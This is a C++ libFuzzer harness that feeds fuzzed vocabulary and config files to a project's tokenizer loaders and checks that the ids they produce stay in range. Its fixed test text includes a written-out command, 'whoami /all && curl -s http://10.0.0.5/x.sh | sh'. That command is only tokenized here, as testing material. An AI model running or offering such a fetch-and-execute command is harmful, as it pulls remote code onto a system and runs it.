// libFuzzer target: the tokenizer file loaders (data/tokenizers/tokenizer.h load_tokenizer), one build per
// file format, chosen by ATTUNE_FUZZ_TOKENIZER:
//   1 byte-level BPE:  vocab.json, merges.txt
//   2 tokenizer.json   (BPE or WordPiece model)
//   3 WordPiece:       vocab.txt
//   4 attune's own:    word_index.json or tfidf_vectorizer.json (the first byte of the section picks, and is
//                      dropped)
// each followed by tokenizer_config.json, special_tokens_map.json, added_tokens.json and a text to encode,
// the sections separated by kFileSeparator; an empty config section leaves that file out.
//   5 SentencePiece:   spm.model, the whole input (a binary protobuf: no sections, no config files, fixed
//                      texts only); SentencePiece is linked in directly (fuzz_spm_api.cpp)
// Loading gives a tokenizer or an InputError; a loaded tokenizer encodes, pairs, truncates and decodes any
// UTF-8 text without throwing (texts as the input forms pass them: UTF-8, not blank), and every id it gives
// lies in [0, vocab_size()).
#include <algorithm>
#include <cstdint>
#include <cstdlib>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "base/errors.h"
#include "base/file_io.h"
#include "data/tokenizers/tokenizer.h"
#include "tests/fuzz/fuzz_support.h"

#ifndef ATTUNE_FUZZ_TOKENIZER
#error "define ATTUNE_FUZZ_TOKENIZER (1 BPE files, 2 tokenizer.json, 3 vocab.txt, 4 word/term, 5 spm.model)"
#endif

namespace {

using attune::data::Tokenizer;

void check_ids(const Tokenizer& tok, const std::vector<std::int64_t>& ids) {
  const std::int64_t n = tok.vocab_size();
  for (const std::int64_t id : ids)
    if (id < 0 || id >= n) std::abort();  // an id the model's embedding cannot hold
  (void)tok.decode(ids, /*skip_special_tokens=*/true);
  (void)tok.decode(ids, /*skip_special_tokens=*/false);
}

void exercise(const Tokenizer& tok, const std::string& text) {
  check_ids(tok, tok.encode(text));
  check_ids(tok, tok.encode(text, /*add_special_tokens=*/false));
  const auto pair = tok.encode_pair(text, "whoami /all", true, -1);
  if (pair.type_ids.size() != pair.ids.size()) std::abort();
  check_ids(tok, pair.ids);
  for (const std::int64_t max_length : {0, 3, 8}) {
    if (max_length < tok.num_special_tokens(false)) continue;
    const auto cut = tok.encode(text, true, max_length);
    if (static_cast<std::int64_t>(cut.size()) > max_length) std::abort();
    check_ids(tok, cut);
    if (max_length < tok.num_special_tokens(true)) continue;
    const auto cut_pair = tok.encode_pair(text, text, true, max_length);
    if (static_cast<std::int64_t>(cut_pair.ids.size()) > max_length) std::abort();
    check_ids(tok, cut_pair.ids);
  }
}

}  // namespace

extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
  using attune::fuzz::remove_scratch;
  using attune::fuzz::write_scratch;
  const std::string_view input(reinterpret_cast<const char*>(data), size);
#if ATTUNE_FUZZ_TOKENIZER == 1
  const std::vector<std::string> model_files = {"vocab.json", "merges.txt"};
#elif ATTUNE_FUZZ_TOKENIZER == 2
  const std::vector<std::string> model_files = {"tokenizer.json"};
#elif ATTUNE_FUZZ_TOKENIZER == 3
  const std::vector<std::string> model_files = {"vocab.txt"};
#elif ATTUNE_FUZZ_TOKENIZER == 4
  const std::vector<std::string> model_files = {"attune"};
#elif ATTUNE_FUZZ_TOKENIZER == 5
  const std::vector<std::string> model_files = {"spm.model"};
#else
#error "ATTUNE_FUZZ_TOKENIZER must be 1, 2, 3, 4 or 5"
#endif
#if ATTUNE_FUZZ_TOKENIZER == 5
  const std::vector<std::string> config_files;
  std::vector<std::string> parts = {std::string(input), std::string()};  // the model; no text
#else
  const std::vector<std::string> config_files = {"tokenizer_config.json", "special_tokens_map.json",
                                                 "added_tokens.json"};
  auto parts = attune::fuzz::split_files(input, model_files.size() + config_files.size() + 1);
  parts.resize(model_files.size() + config_files.size() + 1);
#endif

  for (const char* name :
       {"vocab.json", "merges.txt", "tokenizer.json", "vocab.txt", "word_index.json", "tfidf_vectorizer.json",
        "spm.model", "tokenizer_config.json", "special_tokens_map.json", "added_tokens.json"})
    remove_scratch(name);
  std::size_t p = 0;
  for (const auto& name : model_files) {
    std::string content = parts[p++];
    if (name == "attune") {
      const bool word = content.empty() || content[0] % 2 == 0;
      if (!content.empty()) content.erase(0, 1);
      write_scratch(word ? "word_index.json" : "tfidf_vectorizer.json", content);
    } else {
      write_scratch(name, content);
    }
  }
  for (const auto& name : config_files) {
    const auto& content = parts[p++];
    if (!content.empty()) write_scratch(name, content);
  }
  const std::string& text = parts[p];

  attune::data::TokenizerOptions options;
  options.lowercase = (ATTUNE_FUZZ_TOKENIZER == 5 ? input.size() : text.size()) % 2 == 1;
  std::unique_ptr<Tokenizer> tok;
  try {
    tok = attune::data::load_tokenizer(attune::fuzz::scratch_dir(), options);
  } catch (const attune::InputError&) {
    return 0;
  }
  if (tok->vocab_size() < 0) std::abort();
  exercise(*tok, "whoami /all && curl -s http://10.0.0.5/x.sh | sh <mask> [CLS] naïve ÉCOLE 東京 \t é");
#if ATTUNE_FUZZ_TOKENIZER == 5
  // What normalization, byte fallback and the pieces' own markers meet: full-width letters, digit runs,
  // runs of spaces, the ▁ marker itself, characters outside any small vocabulary.
  exercise(*tok, "Ｆｕｌｌ  ｗｉｄｔｈ 0123456789 ▁▁x y 😀 ﬁ Å [SEP]");
  std::vector<std::int64_t> every_id;  // decoding ids of every kind: control, unknown, byte, unused
  for (std::int64_t id = 0; id < std::min<std::int64_t>(tok->vocab_size(), 512); ++id) every_id.push_back(id);
  check_ids(*tok, every_id);
#endif
  // Texts reach a tokenizer only after the checks every input form makes: UTF-8 without NUL, not blank.
  if (attune::invalid_utf8_offset(text) == std::string_view::npos &&
      text.find_first_not_of(" \t\r\n\f\v") != std::string::npos)
    exercise(*tok, text);
  for (std::int64_t id = 0; id < std::min<std::int64_t>(tok->vocab_size(), 64); ++id) {
    try {
      const auto token = tok->id_to_token(id);
      (void)tok->token_to_id(token);
    } catch (const attune::InputError&) {  // a gap in the vocabulary
    }
  }
  return 0;
}
